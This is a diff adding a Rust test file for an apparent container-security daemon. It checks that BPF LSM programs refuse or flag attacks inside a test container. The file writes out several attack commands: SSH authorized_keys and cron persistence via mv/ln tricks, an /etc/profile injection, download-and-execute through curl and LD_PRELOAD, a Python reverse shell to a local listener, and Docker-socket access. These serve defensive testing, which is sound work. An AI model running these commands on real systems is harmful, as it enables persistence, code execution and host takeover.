@@ -1,0 +1,193 @@
+//! What LSM programs refuse before it happens, and what is done about the same acts on kernels without
+//! them. With `bpf` among the active security modules a refusal must be theirs: the same tests fail
+//! when one of those programs stops refusing.
+
+use crate::attacks::{Stage, stage};
+use crate::container::Container;
+use crate::daemon::{ALERT_WAIT, is_alert, outcome};
+use crate::lab::Peer;
+use crate::{pace, shared};
+use anyhow::{Context, Result, ensure};
+use serde_json::Value;
+use std::fs;
+use std::io::Read as _;
+use std::os::unix::net::UnixListener;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::time::Duration;
+
+impl Stage {
+    /// The alert about a file, and that it was dealt with as this kernel can.
+    fn alert(&self, kind: &str, file: &str, mode: &str) -> Result<Value> {
+        let alert = self.watch.daemon.await_row(&format!("{kind} of {file}"), ALERT_WAIT, |row| {
+            let path = row["file"]["path"].as_str().unwrap_or_default();
+            is_alert(row, kind, self.container.id()) && path.ends_with(file)
+        })?;
+        if mode == "monitor" {
+            ensure!(outcome(&alert) == "observed", "{mode}: outcome {}", outcome(&alert));
+        } else if lsm() {
+            let by = &alert["bulkhead"]["enforced_by"];
+            ensure!(by == "lsm", "{kind} of {file} was enforced by {by} although LSM programs are active");
+        }
+        Ok(alert)
+    }
+}
+
+/// Do BPF LSM programs fire on this kernel?
+fn lsm() -> bool {
+    let active = fs::read_to_string("/sys/kernel/security/lsm").unwrap_or_default();
+    active.trim().split(',').any(|name| name == "bpf")
+}
+
+/// A key and a crontab that are never opened under their final name.
+pub fn names_are_refused() -> Result<()> {
+    let acts = [
+        ("persistence_ssh_key", "mv /tmp/x /root/.ssh/authorized_keys", "/root/.ssh/authorized_keys"),
+        ("persistence_ssh_key", "cd /root/.ssh && mv /tmp/x authorized_keys", "authorized_keys"),
+        ("persistence_ssh_key", "cd /root && mv /tmp/x ./.ssh/../.ssh/authorized_keys", "authorized_keys"),
+        (
+            "persistence_ssh_key",
+            "cp /tmp/x /root/.ssh/x && ln /root/.ssh/x /root/.ssh/authorized_keys",
+            "authorized_keys",
+        ),
+        ("persistence_ssh_key", "ln -s /tmp/x /root/.ssh/authorized_keys", "/root/.ssh/authorized_keys"),
+        ("persistence_cron", "mv -t /etc/cron.d /tmp/x", "/etc/cron.d/x"),
+        ("persistence_cron", "cp -l /etc/shadow /etc/cron.d/x || ln /etc/shadow /etc/cron.d/x", "/etc/cron.d/x"),
+    ];
+    for mode in ["monitor", "protect"] {
+        for (kind, act, file) in acts {
+            let stage = stage(mode)?;
+            stage.container.run("mkdir -p /root/.ssh /etc/cron.d && rm -f /root/.ssh/* && echo attacker > /tmp/x")?;
+            stage.container.run(act)?;
+            stage.alert(kind, file, mode).with_context(|| format!("{mode}: {act}"))?;
+            let whole = if file.starts_with('/') { file.to_owned() } else { format!("/root/.ssh/{file}") };
+            if mode == "monitor" {
+                ensure!(stage.has(&whole), "monitor mode touched it, or the act is broken: {act}");
+            } else if lsm() {
+                ensure!(!stage.has(&whole), "{file} exists after: {act}");
+            }
+        }
+    }
+    Ok(())
+}
+
+/// `sed -i` writes a file of its own and renames it over the old one.
+pub fn rename_over_profile_is_refused() -> Result<()> {
+    for mode in ["monitor", "protect"] {
+        let stage = stage(mode)?;
+        ensure!(stage.has("/etc/profile"), "the stage has no /etc/profile");
+        stage.container.run("sed -i '1i touch /tmp/ran # attacker' /etc/profile")?;
+        stage.alert("persistence_other", "/etc/profile", mode)?;
+        let written = stage.holds("/etc/profile", "attacker");
+        ensure!(mode == "protect" || written, "monitor mode touched it");
+        ensure!(!(mode == "protect" && lsm() && written), "the file was replaced");
+    }
+    Ok(())
+}
+
+/// With LSM the file does not come into being; without, it stays empty.
+pub fn creation_is_refused() -> Result<()> {
+    let stage = stage("protect")?;
+    stage.container.run("mkdir -p /etc/cron.d; echo '* * * * * root true' > /etc/cron.d/attacker")?;
+    stage.alert("persistence_cron", "/etc/cron.d/attacker", "protect")?;
+    ensure!(!stage.holds("/etc/cron.d/attacker", "root"), "the cron line was written");
+    ensure!(!(lsm() && stage.has("/etc/cron.d/attacker")), "the file was made");
+    Ok(())
+}
+
+/// A downloaded program as itself, by way of the dynamic loader, and as a library.
+pub fn downloaded_code_never_runs() -> Result<()> {
+    let program = fs::read("/usr/bin/touch").context("read a program to be served")?;
+    let acts = [
+        ("chmod +x /tmp/p; /tmp/p /tmp/ran", true),
+        ("/lib64/ld-linux-x86-64.so.2 /tmp/p /tmp/ran", true),
+        // Not a library, but mapped as one before that is found out.
+        ("LD_PRELOAD=/tmp/p /usr/bin/true", false),
+    ];
+    for mode in ["monitor", "protect"] {
+        for (act, runs) in acts {
+            let stage = stage(mode)?;
+            let peer = Peer::web(stage.container.listen()?, &program)?;
+            stage.container.run(&format!("curl -s -o /tmp/p http://127.0.0.1:{}/p", peer.port))?;
+            ensure!(stage.has("/tmp/p"), "the download itself did not work");
+            stage.container.run(act)?;
+            stage.alert("download_exec", "/tmp/p", mode).with_context(|| format!("{mode}: {act}"))?;
+            ensure!(stage.has("/tmp/ran") == (runs && mode == "monitor"), "{mode}: wrong effect of: {act}");
+        }
+    }
+    Ok(())
+}
+
+/// A service that unpacks a library and loads it (every Java program with native code) is left alone.
+pub fn own_library_is_no_finding() -> Result<()> {
+    let stage = stage("protect")?;
+    let peer = Peer::web(stage.container.listen()?, b"hello")?;
+    let script = format!(
+        "python3 -c 'import urllib.request, shutil, ctypes, glob\n\
+         urllib.request.urlopen(\"http://127.0.0.1:{}/\").read()\n\
+         source = glob.glob(\"/lib/*/libz.so.1*\") + glob.glob(\"/usr/lib/*/libz.so.1*\")\n\
+         shutil.copyfile(source[0], \"/tmp/libunpacked.so\")\n\
+         ctypes.CDLL(\"/tmp/libunpacked.so\")\n\
+         open(\"/tmp/loaded\", \"w\")'",
+        peer.port
+    );
+    stage.container.run(&script)?;
+    ensure!(stage.has("/tmp/loaded"), "the service did not get to the end");
+    std::thread::sleep(pace::wait(Duration::from_millis(300)));
+    let found = stage.watch.daemon.alerts("download_exec", stage.container.id());
+    ensure!(found.is_empty(), "{found:?}");
+    Ok(())
+}
+
+/// A shell on a connection that its parent made: refused before it becomes a shell.
+pub fn shell_on_a_socket_never_starts() -> Result<()> {
+    let stage = stage("protect")?;
+    let peer = Peer::shell(stage.container.listen()?, "touch /tmp/ran\n", pace::wait(Duration::from_secs(3)))?;
+    let script = format!(
+        "python3 -c 'import socket, subprocess\n\
+         s = socket.create_connection((\"127.0.0.1\", {}))\n\
+         subprocess.call([\"/bin/sh\", \"-i\"], stdin=s, stdout=s, stderr=s)'",
+        peer.port
+    );
+    stage.container.run(&script)?;
+    let alert = stage.watch.daemon.await_alert("reverse_shell", stage.container.id())?;
+    ensure!(!lsm() || alert["bulkhead"]["enforced_by"] == "lsm", "enforced by {}", alert["bulkhead"]["enforced_by"]);
+    ensure!(!stage.has("/tmp/ran"), "the attacker's command ran");
+    ensure!(peer.received() == 0, "the attacker received {} bytes", peer.received());
+    Ok(())
+}
+
+/// The runtime's socket, under another path: with LSM there is no connection, without not one byte.
+pub fn runtime_socket_is_refused() -> Result<()> {
+    for mode in ["monitor", "protect"] {
+        let host = tempfile::tempdir()?;
+        let listener = UnixListener::bind(host.path().join("docker.sock"))?;
+        fs::rename(host.path().join("docker.sock"), host.path().join("innocent"))?;
+        let (accepted, received) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
+        let counters = (accepted.clone(), received.clone());
+        std::thread::spawn(move || {
+            for mut stream in listener.incoming().flatten() {
+                counters.0.fetch_add(1, Ordering::SeqCst);
+                let mut bytes = [0; 512];
+                let count = stream.read(&mut bytes).unwrap_or(0);
+                counters.1.fetch_add(count, Ordering::SeqCst);
+            }
+        });
+        let watch = shared::watch(mode)?;
+        let container = Container::start_with(&watch.group, Some(host.path()))?;
+        container.run("curl -s -m 2 --unix-socket /mnt/innocent http://x/version")?;
+        let alert = watch.daemon.await_alert("docker_socket", container.id())?;
+        std::thread::sleep(pace::wait(Duration::from_millis(100)));
+        let (accepted, received) = (accepted.load(Ordering::SeqCst), received.load(Ordering::SeqCst));
+        if mode == "monitor" {
+            ensure!(received > 0, "monitor mode touched it, or the stage is broken");
+            continue;
+        }
+        ensure!(received == 0, "the runtime received {received} bytes");
+        if lsm() {
+            ensure!(accepted == 0, "the connection was made");
+            ensure!(alert["bulkhead"]["enforced_by"] == "lsm", "by {}", alert["bulkhead"]["enforced_by"]);
+        }
+    }
+    Ok(())
+}
